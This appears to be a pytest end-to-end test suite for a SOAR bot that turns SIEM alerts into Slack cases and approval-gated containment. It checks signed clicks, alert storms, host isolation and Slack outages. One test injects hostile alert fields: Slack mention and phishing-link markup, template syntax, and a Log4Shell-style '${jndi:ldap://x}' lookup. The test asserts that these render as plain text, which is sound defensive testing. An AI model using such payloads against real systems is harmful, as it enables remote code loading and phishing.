"""The whole path on the Temporal dev server, from a SIEM's webhook to a decision in Slack:
the alert opens a case whose message and approval request the workflows post; a signed
Approve click becomes the `decide` Update; the playbook goes on and both messages show
it. Late, double, unauthorised and forged clicks change nothing, and an alert full of
mentions, links and template syntax renders as plain text."""

from __future__ import annotations

import re
import uuid
from pathlib import Path
from typing import Any

import httpx
import pytest
from temporalio.worker import Worker

from bot.ids import ActionId
from soar.approvals.models import ApprovalState
from soar.containment.models import ContainmentVerb
from soar.settings import Settings, TemporalSettings
from soar.store.db import Store
from soar.testing.actuators import RecordingActuator
from soar.testing.fake_slack import FakeMessage, FakeSlack
from tests.conftest import bearer

from .support import (
    ALICE,
    BOB,
    CRITICAL_CHANNEL,
    DEFAULT_CHANNEL,
    HIGH_CHANNEL,
    MALLORY,
    SignedSlack,
    bot_settings,
    buttons,
    eventually,
    texts,
)

PIPELINE = 30.0
"""Seconds for an alert to travel webhook → triage → case → playbook → Slack."""


@pytest.fixture
def laptop() -> str:
    """A host name of the test's own: a case is per host, and a case another test opened
    (on a task queue no worker serves any more) must not take this test's alert."""
    return f"fin-laptop-{uuid.uuid4().hex[:8]}"


@pytest.fixture
def slack_settings(tmp_path: Path, fake_slack: FakeSlack, laptop: str) -> Settings:
    """The bot's settings on a task queue of the test's own, with an inventory in which
    bob owns a laptop."""
    inventory = tmp_path / "inventory.yaml"
    inventory.write_text(f"hosts:\n  {laptop}: {{owner: bob, criticality: medium}}\n")
    queue = TemporalSettings(task_queue=f"soar-e2e-{uuid.uuid4().hex[:12]}", rpc_timeout_seconds=2)
    return bot_settings(tmp_path, fake_slack, temporal=queue, inventory_file=inventory)


def attacker() -> str:
    return f"45.83.{uuid.uuid4().int % 200 + 1}.{uuid.uuid4().int % 200 + 1}"


async def send_alert(http: httpx.AsyncClient, alert: dict[str, Any]) -> str:
    response = await http.post("/webhooks/generic", json=alert, headers=bearer())
    assert response.status_code == 202, response.text
    [accepted] = response.json()["accepted"]
    return accepted["alert_id"]


async def posted(fake: FakeSlack, channel: str, *needles: str, thread: bool = False) -> FakeMessage:
    """The message posted in `channel` (top level, or a thread reply) showing every needle."""

    async def found() -> FakeMessage | None:
        for message in list(fake.messages.values()):
            shown = texts(message.blocks)
            if (
                message.channel == channel
                and (message.thread_ts is not None) == thread
                and all(needle in shown for needle in needles)
            ):
                return message
        return None

    return await eventually(found, within=PIPELINE)


def approve_buttons(message: FakeMessage) -> list[str]:
    return [b["value"] for b in buttons(message.blocks) if b["action_id"] == ActionId.APPROVE]


async def test_alert_to_approval_in_slack_to_containment(
    slack: SignedSlack,
    fake_slack: FakeSlack,
    store: Store,
    slack_worker: Worker,
    actuator: RecordingActuator,
) -> None:
    address = attacker()
    title = f"SSH brute force from {address}"
    await send_alert(
        slack.http,
        {"id": uuid.uuid4().hex, "title": title, "severity": "high", "src_ip": address},
    )
    case_message = await posted(fake_slack, HIGH_CHANNEL, title, "Severity")
    request = await posted(fake_slack, HIGH_CHANNEL, "Approve", address)
    [approval_id] = approve_buttons(request)
    where = {"channel": request.channel, "ts": request.ts}

    await slack.click(ActionId.APPROVE, approval_id, user=MALLORY, **where)
    told = await fake_slack.wait_for("chat.postEphemeral", lambda a: a["user"] == MALLORY)
    assert "not allowed to decide" in told["text"]
    forged = await slack.click(
        ActionId.APPROVE, approval_id, user=ALICE, secret="not-the-secret", **where
    )
    assert forged.status_code == 401
    pending = await store.get_approval(approval_id)
    assert pending is not None and pending.state is ApprovalState.PENDING
    assert approve_buttons(fake_slack.messages[(request.channel, request.ts)]) == [approval_id]
    assert not actuator.called

    await slack.click(ActionId.APPROVE, approval_id, user=ALICE, **where)
    decided = await fake_slack.wait_for("chat.update", lambda a: a["ts"] == request.ts)
    assert buttons(decided["blocks"]) == []
    assert "Approved by <@UALICE01> at <!date^" in texts(decided["blocks"])

    async def applied() -> bool:
        return len(actuator.calls_to("apply")) == 1

    assert await eventually(applied, within=PIPELINE)
    [command] = actuator.calls_to("apply")
    assert command.target.value == address
    await posted(fake_slack, HIGH_CHANNEL, f"{address} is blocked by recording", thread=True)
    replies = fake_slack.thread(HIGH_CHANNEL, case_message.ts)
    assert any("Approval requested" in texts(reply.blocks) for reply in replies)

    for late in (ALICE, BOB):
        await slack.click(ActionId.APPROVE, approval_id, user=late, **where)
        told = await fake_slack.wait_for("chat.postEphemeral", lambda a, u=late: a["user"] == u)
        assert re.search(r"already approved by alice at \d{4}-\d\d-\d\dT", told["text"])
    assert len(actuator.calls_to("apply")) == 1
    settled = await store.get_approval(approval_id)
    assert settled is not None
    assert [d.user for d in settled.decisions] == ["alice"]

    async def case_shown_contained() -> bool:
        shown = texts(fake_slack.messages[(HIGH_CHANNEL, case_message.ts)].blocks)
        return "contained" in shown

    assert await eventually(case_shown_contained, within=PIPELINE)
    top_level = [
        m for m in fake_slack.messages.values() if m.channel == HIGH_CHANNEL and not m.thread_ts
    ]
    assert len(top_level) == 2


async def test_hostile_alert_renders_as_plain_text(
    slack: SignedSlack, fake_slack: FakeSlack, slack_worker: Worker
) -> None:
    hostile = "<!channel> <@U0ADMIN> <https://evil.example/login|Reset your password> {{ 7*7 }}"
    marker = uuid.uuid4().hex[:8]
    await send_alert(
        slack.http,
        {
            "id": uuid.uuid4().hex,
            "title": f"{marker} {hostile}",
            "severity": "low",
            "description": f"{hostile} {{% raw %}} ${{jndi:ldap://x}}",
            "host": "<!here>",
            "user": "<@U0ADMIN>",
        },
    )
    message = await posted(fake_slack, DEFAULT_CHANNEL, marker)
    shown = texts(message.blocks) + "\n" + (message.text or "")
    for injected in ("<!channel>", "<!here>", "<@U0ADMIN>", "<https://evil.example"):
        assert injected not in shown
    assert "&lt;!channel&gt;" in shown and "&lt;@U0ADMIN&gt;" in shown
    assert "{{ 7*7 }}" in shown


async def test_an_alert_storm_updates_one_message_per_case(
    slack: SignedSlack, fake_slack: FakeSlack, slack_worker: Worker
) -> None:
    address, marker = attacker(), uuid.uuid4().hex[:8]
    storm = [
        {
            "id": f"{marker}-{n}",
            "title": f"{marker} port scan from {address}",
            "severity": "low",
            "src_ip": address,
        }
        for n in range(40)
    ]
    response = await slack.http.post("/webhooks/generic", json=storm, headers=bearer())
    assert response.status_code == 202 and len(response.json()["accepted"]) == 40
    message = await posted(fake_slack, DEFAULT_CHANNEL, marker)

    async def counted() -> bool:
        return "40 alerts" in texts(fake_slack.messages[(message.channel, message.ts)].blocks)

    assert await eventually(counted, within=PIPELINE)
    mine = [m for m in fake_slack.messages.values() if marker in texts(m.blocks)]
    assert mine == [fake_slack.messages[(message.channel, message.ts)]]
    updates = [a for a in fake_slack.calls_to("chat.update") if a["ts"] == message.ts]
    assert len(updates) < 40


async def test_isolating_a_host_tells_its_owner_directly(
    slack: SignedSlack,
    fake_slack: FakeSlack,
    slack_worker: Worker,
    actuator: RecordingActuator,
    laptop: str,
) -> None:
    title = f"Ransomware behaviour on {laptop}"
    await send_alert(
        slack.http,
        {"id": uuid.uuid4().hex, "title": title, "severity": "critical", "host": laptop},
    )
    request = await posted(fake_slack, CRITICAL_CHANNEL, "Approve", "isolate")
    [approval_id] = approve_buttons(request)
    await slack.click(
        ActionId.APPROVE, approval_id, user=ALICE, channel=request.channel, ts=request.ts
    )
    told = await posted(fake_slack, BOB, f"{laptop} was isolated")
    assert title in texts(told.blocks)
    assert actuator.calls[0].command.action is ContainmentVerb.CONTAIN


async def test_a_slack_outage_delays_the_case_message_and_loses_nothing(
    slack: SignedSlack, fake_slack: FakeSlack, slack_worker: Worker
) -> None:
    fake_slack.fail("chat.postMessage", "internal_error", times=2)
    fake_slack.rate_limit("chat.postMessage", times=1, retry_after=1)
    marker = uuid.uuid4().hex[:8]
    await send_alert(
        slack.http,
        {"id": marker, "title": f"{marker} beacon", "severity": "low", "host": f"ws-{marker}"},
    )
    message = await posted(fake_slack, DEFAULT_CHANNEL, marker)
    statuses = [
        (c.status, c.response.get("error"))
        for c in fake_slack.calls
        if c.method == "chat.postMessage"
    ]
    assert statuses[:3] == [(200, "internal_error"), (200, "internal_error"), (429, "ratelimited")]
    assert [m for m in fake_slack.messages.values() if marker in texts(m.blocks)] == [message]
